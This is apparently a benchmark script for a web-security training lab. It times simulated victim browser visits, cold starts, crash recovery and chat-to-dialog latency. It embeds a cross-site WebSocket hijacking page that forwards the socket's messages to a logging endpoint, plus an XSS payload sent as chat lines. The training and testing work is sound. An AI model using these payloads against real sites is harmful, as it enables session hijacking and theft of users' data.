/**
 * Victims: what a visit takes when several are under way, beside Playwright with the same pages; a cold start, a browser
 * that is killed, and how soon the agent reads a line of the chat. Goals on two cores: 8 visits a second and a p99 below
 * 2.5 seconds at 8 at a time, recovery below 3 seconds with no visit lost, and a p50 below a second from the line to the
 * agent's dialog.
 */
import { pino } from 'pino';
import type { TraceEventKind } from '../protocol/trace.ts';
import type { Bench } from '../server/benches/bench.ts';
import { parseConfig } from '../server/config.ts';
import { RawClient } from '../server/solve/raw-client.ts';
import { type Running, start } from '../server/start.ts';
import { bareVisits } from './bare-visits.ts';
import { median } from './median.ts';
import { memoryOf } from './memory-of.ts';

const DURATION = Number(process.env.BENCH_VICTIM_MS ?? 10_000);
const LINES = Number(process.env.BENCH_LINES ?? 20);

/** The page of the lab about hijacking: a socket across sites, and everything it says sent to the log. */
const hijack = {
  head: 'HTTP/1.1 200 OK\nContent-Type: text/html; charset=utf-8',
  body: `<title>Hijack</title><script>
    const socket = new WebSocket('{{lab-ws}}/socket');
    socket.onopen = () => socket.send('{"type":"hello"}');
    socket.onmessage = ({ data }) => fetch('log?' + encodeURIComponent(data), { mode: 'no-cors' });
  </script>`,
};

console.log(
  '| visits at a time | visits/s | by Playwright alone | p50 ms | p99 ms | browser’s MB (PSS) | each with its whole story |',
);
console.log('| --- | --- | --- | --- | --- | --- | --- |');
for (const atOnce of [1, 2, 4, 8]) console.log(`| ${(await measureVisits(atOnce)).join(' | ')} |`);

console.log('\n| | ms | |');
console.log('| --- | --- | --- |');
for (const row of [await measureColdStart(), await measureRecovery(), await measureLines()])
  console.log(`| ${row.join(' | ')} |`);

async function measureVisits(atOnce: number): Promise<(string | number)[]> {
  return withPlatform({ VICTIM_VISITS: String(atOnce) }, async (running) => {
    const benches = await openBenches(running, atOnce);
    // What is compiled during the first visits is compiled before anything counts.
    for (let round = 0; round < 2; round++) await Promise.all(benches.map((bench) => visit(running, bench)));
    const trips: number[] = [];
    let memory = Number.NaN;
    const pid = running.services.victims.browser?.pid ?? 0;
    // Once, in mid-run: asking costs the browser's processes time.
    const look = setTimeout(() => {
      memory = memoryOf(pid);
    }, DURATION / 2);
    const started = performance.now();
    const until = started + DURATION;
    let hijacked = 0;
    await Promise.all(
      benches.map(async (bench) => {
        while (performance.now() < until) {
          const before = performance.now();
          const seen = bench.trace.next - 1;
          await visit(running, bench);
          trips.push(performance.now() - before);
          const events = bench.trace.after(seen).events;
          if (events.some((event) => event.kind === 'access' && event.carries.length > 0)) hijacked++;
        }
      }),
    );
    const seconds = (performance.now() - started) / 1000;
    clearTimeout(look);
    const { exploit } = running.services.ports;
    const addresses = benches.map(({ id }) => `http://127.0.0.1:${exploit}/e/${id}/`);
    const alone = await bareVisits(addresses, DURATION / 2);
    trips.sort((a, b) => a - b);
    const at = (share: number) => (trips[Math.floor(trips.length * share)] ?? Number.NaN).toFixed(0);
    return [
      atOnce,
      (trips.length / seconds).toFixed(1),
      alone.toFixed(1),
      at(0.5),
      at(0.99),
      Number.isNaN(memory) ? 'only on Linux' : memory.toFixed(0),
      `${hijacked} of ${trips.length}`,
    ];
  });
}

/** From a delivery with no browser running to the page's own handshake in the trace. */
async function measureColdStart(): Promise<(string | number)[]> {
  const times: number[] = [];
  for (let round = 0; round < 3; round++) {
    await withPlatform({}, async (running) => {
      const [bench] = await openBenches(running, 1);
      if (!bench) return;
      const began = performance.now();
      const shaken = untilEvent(bench, 'handshake');
      const ended = visit(running, bench);
      await shaken;
      times.push(performance.now() - began);
      await ended;
    });
  }
  return ['cold start, to the victim’s handshake', median(times).toFixed(0), 'median of 3'];
}

/** From the kill to the moment when the last visit that was under way has come again. */
async function measureRecovery(): Promise<(string | number)[]> {
  return withPlatform({ VICTIM_VISITS: '4', VICTIM_QUIET_MS: '1000' }, async (running) => {
    const benches = await openBenches(running, 4);
    const visits = benches.map((bench) => running.services.exploits.deliver(bench));
    await Promise.all(benches.map((bench) => untilEvent(bench, 'handshake')));
    const again = Promise.all(benches.map((bench) => untilEvent(bench, 'handshake', 2)));
    const killed = performance.now();
    process.kill(running.services.victims.browser?.pid ?? 0, 'SIGKILL');
    await again;
    const took = performance.now() - killed;
    await Promise.all(visits.map(({ ended }) => ended));
    const whole = benches.filter((bench) =>
      bench.trace.recent('visit', 1)[0]?.outcome?.includes('come to rest'),
    );
    return [
      'recovery, from the kill to the last handshake of 4',
      took.toFixed(0),
      `${4 - whole.length} lost`,
    ];
  });
}

/** From a line of the chat to the dialog in the agent's browser. */
async function measureLines(): Promise<(string | number)[]> {
  return withPlatform({}, async (running) => {
    const { id } = await running.services.store.learners.create();
    const bench = await running.services.registry.open(id, 'apprentice/manipulating-messages');
    const { client } = await RawClient.request(
      { host: '127.0.0.1', port: running.services.ports.lab },
      `GET ${bench.base}/socket HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
        'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n',
    );
    const times: number[] = [];
    for (let line = 0; line <= LINES; line++) {
      const began = performance.now();
      const told = untilEvent(bench, 'dialog', line + 1);
      client.sendText(JSON.stringify({ type: 'line', text: `<img src=1 onerror=alert(${line})>` }));
      await told;
      // The first one starts the browser.
      if (line > 0) times.push(performance.now() - began);
      await running.services.victims.idle(bench);
    }
    client.destroy();
    times.sort((a, b) => a - b);
    return [
      'chat line to the agent’s dialog, p50',
      median(times).toFixed(0),
      `p95 ${times.at(-2)?.toFixed(0)}`,
    ];
  });
}

async function withPlatform<T>(
  environment: Record<string, string>,
  work: (running: Running) => Promise<T>,
): Promise<T> {
  const free = { PORT: '0', LAB_PORT: '0', LAB_TLS_PORT: '0', EXPLOIT_PORT: '0', DATA_DIR: ':memory:' };
  const running = await start(parseConfig({ ...free, ...environment }), pino({ level: 'silent' }));
  try {
    return await work(running);
  } finally {
    await running.close();
  }
}

async function openBenches({ services }: Running, count: number): Promise<Bench[]> {
  const benches: Bench[] = [];
  for (let number = 0; number < count; number++) {
    const { id } = await services.store.learners.create();
    const bench = await services.registry.open(id, 'practitioner/cross-site-hijacking');
    await services.exploits.store(bench, hijack);
    benches.push(bench);
  }
  return benches;
}

async function visit({ services }: Running, bench: Bench): Promise<void> {
  await services.exploits.deliver(bench).ended;
}

function untilEvent(bench: Bench, kind: TraceEventKind, count = 1): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const look = () => {
    if (bench.trace.recent(kind, count).length < count) return;
    bench.news.off('trace', look);
    resolve();
  };
  bench.news.on('trace', look);
  look();
  return promise;
}
